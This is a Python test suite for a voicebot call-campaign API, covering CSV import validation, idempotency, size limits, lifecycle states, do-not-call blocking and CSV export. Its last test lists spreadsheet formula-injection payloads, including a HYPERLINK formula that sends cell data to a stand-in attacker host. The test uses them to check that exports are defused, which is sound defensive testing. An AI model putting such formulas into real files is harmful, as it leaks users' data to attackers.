"""Campaign creation (JSON and CSV with row reports), idempotency, limits, state changes, results."""

from __future__ import annotations

import csv
import io
import json

import httpx
from sqlalchemy import text

from tests.api.conftest import auth
from voicebot.api.app import create_app

CSV_WITH_BROKEN_ROWS = (
    "phone,timezone,account_number,full_name,amount\n"
    "+79161110001,Europe/Moscow,100001,Орлова Н. П.,4870.50\n"  # line 2 ok
    "not-a-phone,,100002,Белов А. В.,10\n"  # line 3 bad phone
    "8 916 111-00-03,Asia/Yekaterinburg,100003,Ким Е. С.,20\n"  # line 4 ok (national spelling)
    "+79161110004,Mars/Olympus,100004,Ли В. А.,30\n"  # line 5 bad zone
    "+79161110001,,100005,Орлова Н. П.,40\n"  # line 6 duplicate of line 2
    "+79161110006,,100006,Ан И. И.,50,extra\n"  # line 7 too many fields
    "\n"
    "+79161110009,,100009,Пак О. О.,60\n"  # line 9 ok
    "+79161110010,,100010,Цой В. Р.,\n"  # line 10: debt_reminder needs an amount
)


def _upload(client, key, data: str | bytes, *, name="Долги ноябрь", scenario="debt_reminder", headers=None):
    body = data.encode() if isinstance(data, str) else data
    return client.post(
        "/api/v1/campaigns/csv",
        headers={**auth(key), **(headers or {})},
        files={"file": ("contacts.csv", body, "text/csv")},
        data={"name": name, "scenario": scenario},
    )


async def test_csv_broken_rows_are_reported_and_the_rest_imported(client, keys, db):
    response = await _upload(client, keys["staff"], CSV_WITH_BROKEN_ROWS)
    assert response.status_code == 201, response.text
    report = response.json()["report"]
    assert report["read"] == 8 and report["accepted"] == 3 and report["rejected_count"] == 5
    reasons = {r["line"]: r["reason"] for r in report["rejected"]}
    assert set(reasons) == {3, 5, 6, 7, 10}
    assert "amount" in reasons[10]
    assert "E.164" in reasons[3]
    assert "Mars/Olympus" in reasons[5]
    assert "в строке 2" in reasons[6]
    assert "полей 6" in reasons[7]
    campaign_id = response.json()["campaign"]["id"]
    async with db.session() as s:
        rows = (
            await s.execute(
                text(
                    "SELECT phone, timezone, account_number, variables FROM campaign_contacts "
                    "WHERE campaign_id = :id ORDER BY id"
                ),
                {"id": campaign_id},
            )
        ).all()
    assert [r.phone for r in rows] == ["+79161110001", "+79161110003", "+79161110009"]
    assert rows[1].timezone == "Asia/Yekaterinburg" and rows[0].timezone == "Europe/Moscow"
    assert rows[0].account_number == "100001"
    assert rows[0].variables == {"account": "100001", "full_name": "Орлова Н. П.", "amount": "4870.50"}


async def test_csv_file_level_errors(client, keys):
    missing = await _upload(client, keys["staff"], "name,debt\nx,1\n")
    assert missing.status_code == 422 and "phone" in missing.json()["error"]["message"]
    not_utf8 = await _upload(client, keys["staff"], "phone\n+79161110001\n".encode("utf-16"))
    assert not_utf8.status_code == 422
    all_bad = await _upload(client, keys["staff"], "phone\nxx\nyy\n")
    assert all_bad.status_code == 422
    assert [(d["location"], d["field"], d["code"]) for d in all_bad.json()["error"]["details"]] == [
        ("contacts", "2", "rejected"), ("contacts", "3", "rejected")]  # fmt: skip
    unknown = await _upload(client, keys["staff"], "phone\n+79161110001\n", scenario="no_such")
    assert unknown.status_code == 422 and "no_such" in unknown.json()["error"]["message"]
    inbound_only = await _upload(client, keys["staff"], "phone\n+79161110001\n", scenario="request_intake")
    assert inbound_only.status_code == 422


async def test_json_creation_idempotency(client, keys, db):
    body = {
        "name": "Визиты",
        "scenario": "visit_warning",
        "contacts": [
            {"phone": "+79161110001", "variables": {"visit_id": "V1", "visit_date": "2025-11-20"}},
            {"phone": "+7916"},
            {"phone": "+79161110002", "variables": {"nested": {"no": 1}}},
        ],
    }
    headers = {**auth(keys["staff"]), "Idempotency-Key": "visits-2025-11-20"}
    first = await client.post("/api/v1/campaigns", json=body, headers=headers)
    assert first.status_code == 201, first.text
    assert [r["line"] for r in first.json()["report"]["rejected"]] == [2, 3]
    again = await client.post("/api/v1/campaigns", json=body, headers=headers)
    assert again.status_code == 200
    assert again.json()["campaign"]["id"] == first.json()["campaign"]["id"]
    other = await client.post("/api/v1/campaigns", json={**body, "name": "другое"}, headers=headers)
    assert other.status_code == 409 and other.json()["error"]["code"] == "idempotency_conflict"
    async with db.session() as s:
        assert await s.scalar(text("SELECT count(*) FROM campaigns")) == 1


async def test_body_limits_give_413_in_the_error_format(api_settings, db, keys):
    api_settings.api_max_body_bytes = 1000
    api_settings.api_max_upload_bytes = 3000
    transport = httpx.ASGITransport(app=create_app(api_settings, database=db))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        await _check_limits(client, keys)


async def _check_limits(client, keys):
    big = {"text": "x" * 5000}
    response = await client.post("/api/v1/simulations", json=big, headers=auth(keys["staff"]))
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"

    async def chunks():  # no Content-Length: counted while reading
        for _ in range(40):
            yield b"x" * 100_000

    response = await client.post(
        "/api/v1/simulations",
        content=chunks(),
        headers={**auth(keys["staff"]), "Content-Type": "application/json"},
    )
    assert response.status_code == 413
    upload = await _upload(client, keys["staff"], "phone\n" + "+79161110001\n" * 400)
    assert upload.status_code == 413
    small = await _upload(client, keys["staff"], "phone\n+79161110001\n", scenario="meter_readings")
    assert small.status_code == 201


async def test_validation_and_not_found_use_one_error_format(client, keys):
    response = await client.post("/api/v1/campaigns", json={"name": ""}, headers=auth(keys["staff"]))
    assert response.status_code == 422
    error = response.json()["error"]
    assert error["code"] == "validation_error" and isinstance(error["details"], list)
    missing = await client.get("/api/v1/campaigns/999", headers=auth(keys["staff"]))
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"
    unknown_path = await client.get("/api/v1/nothing-here", headers=auth(keys["staff"]))
    assert unknown_path.status_code == 404 and "error" in unknown_path.json()


async def test_lifecycle_progress_results_and_pagination(client, keys, db):
    contacts = [
        {"phone": f"+7916111{i:04d}", "account_number": f"A{i}", "variables": {"ticket_number": f"2400{i}"}}
        for i in range(5)
    ]
    created = await client.post(
        "/api/v1/campaigns",
        json={"name": "NPS", "scenario": "nps_survey", "contacts": contacts},
        headers=auth(keys["staff"]),
    )
    cid = created.json()["campaign"]["id"]
    staff = auth(keys["staff"])
    assert (await client.post(f"/api/v1/campaigns/{cid}/pause", headers=staff)).status_code == 409
    assert (await client.post(f"/api/v1/campaigns/{cid}/start", headers=staff)).json()["status"] == "running"
    assert (await client.post(f"/api/v1/campaigns/{cid}/pause", headers=staff)).json()["status"] == "paused"
    assert (await client.post(f"/api/v1/campaigns/{cid}/resume", headers=staff)).json()["status"] == "running"
    async with db.transaction() as s:
        await s.execute(
            text(
                "UPDATE campaign_contacts SET state = 'done', outcome = 'nps_collected', attempts = 1 "
                "WHERE campaign_id = :id AND account_number IN ('A0', 'A1')"
            ),
            {"id": cid},
        )
    progress = (await client.get(f"/api/v1/campaigns/{cid}/progress", headers=staff)).json()
    assert (
        progress["total"] == 5
        and progress["finished"] == 2
        and progress["by_outcome"] == {"nps_collected": 2}
    )
    cancelled = await client.post(f"/api/v1/campaigns/{cid}/cancel", headers=staff)
    assert cancelled.json()["status"] == "cancelled"
    progress = (await client.get(f"/api/v1/campaigns/{cid}/progress", headers=staff)).json()
    assert progress["by_state"] == {"done": 2, "cancelled": 3}

    as_json = (await client.get(f"/api/v1/campaigns/{cid}/results", headers=staff)).json()
    assert len(as_json) == 5 and {r["state"] for r in as_json} == {"done", "cancelled"}
    as_csv = await client.get(f"/api/v1/campaigns/{cid}/results?format=csv", headers=staff)
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert len(rows) == 5 and rows[0]["outcome"] == "nps_collected"
    assert json.loads(rows[0]["variables"]) == {"account": "A0", "ticket_number": "24000"}

    page = (await client.get("/api/v1/campaigns?limit=1&offset=0", headers=staff)).json()
    assert page["total"] == 1 and len(page["items"]) == 1 and "idempotency_key" not in page["items"][0]
    assert (await client.get("/api/v1/campaigns?limit=5000", headers=staff)).status_code == 422


async def test_do_not_call_numbers_are_blocked(client, keys, db):
    async with db.transaction() as s:
        await s.execute(
            text("INSERT INTO do_not_call (phone, reason) VALUES ('+79161110002', 'wrong_number')")
        )
    created = await client.post(
        "/api/v1/campaigns",
        json={
            "name": "x",
            "scenario": "meter_readings",
            "contacts": [{"phone": "+79161110001"}, {"phone": "+79161110002"}],
        },
        headers=auth(keys["staff"]),
    )
    progress = (
        await client.get(
            f"/api/v1/campaigns/{created.json()['campaign']['id']}/progress", headers=auth(keys["staff"])
        )
    ).json()
    assert progress["by_state"] == {"pending": 1, "blocked": 1}


async def test_campaign_settings_are_checked_by_the_dialer_policy(client, keys):
    base = {"name": "x", "scenario": "meter_readings", "contacts": [{"phone": "+79161110001"}]}
    bad = await client.post(
        "/api/v1/campaigns", json={**base, "settings": {"bogus": 1}}, headers=auth(keys["staff"])
    )
    assert bad.status_code == 422 and "bogus" in bad.json()["error"]["message"]
    good = await client.post(
        "/api/v1/campaigns",
        json={**base, "settings": {"windows": {"weekday": ["10:00", "18:00"]}}},
        headers=auth(keys["staff"]),
    )
    assert good.status_code == 201, good.text
    assert good.json()["campaign"]["settings"] == {"windows": {"weekday": ["10:00", "18:00"]}}


async def test_idempotency_keys_belong_to_the_api_key_that_sent_them(client, keys, db):
    body = {"name": "Визиты", "scenario": "visit_warning",
            "contacts": [{"phone": "+79161110001", "variables": {"visit_id": "V1", "visit_date": "2025-11-20"}}]}  # fmt: skip
    mine = await client.post(
        "/api/v1/campaigns", json=body, headers={**auth(keys["staff"]), "Idempotency-Key": "k1"}
    )
    theirs = await client.post(
        "/api/v1/campaigns",
        json={**body, "name": "чужое"},
        headers={**auth(keys["admin"]), "Idempotency-Key": "k1"},
    )
    assert mine.status_code == 201 and theirs.status_code == 201  # no replay of, nor conflict with, staff's
    assert theirs.json()["campaign"]["id"] != mine.json()["campaign"]["id"]
    assert "Визиты" not in theirs.text
    long_key = {**auth(keys["staff"]), "Idempotency-Key": "x" * 128}
    assert (await client.post("/api/v1/campaigns", json=body, headers=long_key)).status_code == 201
    assert (await client.post("/api/v1/campaigns", json=body, headers=long_key)).status_code == 200


async def test_exported_results_cannot_run_formulas(client, keys, db):
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1",
            "\r=1+1", " =1+1", "＝1+1"]  # fmt: skip
    contacts = [
        {"phone": f"+7916222{i:04d}", "account_number": value, "variables": {"ticket_number": "24001"}}
        for i, value in enumerate(evil)
    ]
    created = await client.post(
        "/api/v1/campaigns", json={"name": "NPS", "scenario": "nps_survey", "contacts": contacts},
        headers=auth(keys["staff"]),
    )  # fmt: skip
    assert created.status_code == 201, created.text
    cid = created.json()["campaign"]["id"]
    exported = await client.get(f"/api/v1/campaigns/{cid}/results?format=csv", headers=auth(keys["staff"]))
    rows = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))))
    accounts = [r["account_number"] for r in rows]
    assert len(accounts) == created.json()["report"]["accepted"] >= 6
    assert all(a.startswith("'") and a[1:].strip()[0] in "=+-@＝" for a in accounts), (
        accounts
    )  # all inert text
    assert all(r["phone"].startswith("'+7916") for r in rows)  # "+…" would be a formula too
